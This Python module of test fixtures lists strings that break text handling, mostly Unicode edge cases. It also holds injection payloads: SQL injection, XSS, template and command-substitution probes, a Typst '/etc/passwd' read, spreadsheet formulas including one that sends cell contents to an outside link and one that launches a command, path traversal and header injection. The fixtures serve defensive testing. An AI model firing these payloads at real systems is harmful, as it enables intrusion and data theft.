"""Text that breaks programs, a kind a line. MARK stands in what would be seen as an element."""

from __future__ import annotations

MARK = "injected"
"""The id that an element has where text became markup, and the name of what a script would set."""
_SET = f"window.{MARK}=1"

TEXTS = {
    "emoji": "👩‍🦽‍➡️",
    "written from the right": "‮321A",
    "isolates left open": "⁦⁧⁨A",
    "Arabic and Hebrew": "مرحبا שלום 12",
    "combining": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢" * 4,
    "zero width": "a​b‌c‍d⁠e﻿",
    "tags nobody sees": "A\U000e0041\U000e0042\U000e007f",
    "line separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "controls": "a\x01\x08\x1b[31mred\x7f",
    "NUL": "A\x00",
    "half a character": "\ud83d",
    "the other half": "A\udc00",
    "no characters": "\ufffe\uffff\ufdd0",
    "rare": "𠮷𬭚\U0010ffff",
    "variants of one": "葛\U000e0100葛",
    "two writings of one": "é é ﬁ ﷺ Å",
    "full width": "＜ｓｃｒｉｐｔ＞＇；－－",
    "turns longer in capitals": "ßŉǰΐ" * 10,
    "Turkish": "İıIi",
    "10,000 characters": "顺" * 10_000,
    "empty": "",
    "blank": " \t\r\n　",
    "SQL": "'; DROP TABLE tickets; --",
    "SQL pattern": "%' OR 1=1 /* _%",
    "HTML": f"<script>{_SET}</script><b id={MARK}>",
    "HTML in an attribute": f"\" onmouseover={_SET} x='><img src=x onerror={_SET}>",
    "HTML ends a script": f"</script></textarea></title><b id={MARK}>-->",
    "a link": f"javascript:{_SET}//",
    "templates": "{{7*7}}${7*7}#{7*7}<%=7*7%>{%raw%}",
    "format": "%s{0}$(id)`id`%(n)s{n.__class__}",
    "typst": '#read("/etc/passwd") #eval("1+1") $x$ *b* _i_ @l <l> \\ // `r` #{7*7}',
    "a formula": "=HYPERLINK(\"http://x/\"&A1,\"点\")",
    "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a path": "../../../../etc/passwd%00.png",
    "headers": "a\r\nSet-Cookie: x=1",
    "JSON": '{"__proto__":{"x":1}}',
    "a number": "1e999999",
    "digits of others": "１２３٤٥٦७८९",
}  # fmt: skip
UNFIT = ("NUL", "half a character", "the other half")
"""What no store can hold: refused as `unfit_text`, whichever field it is in."""
SHOWABLE = {
    name: text
    for name, text in TEXTS.items()
    if name not in UNFIT and text.strip() and len(text) <= 200
}
"""What a field may keep, and has to show as it is."""
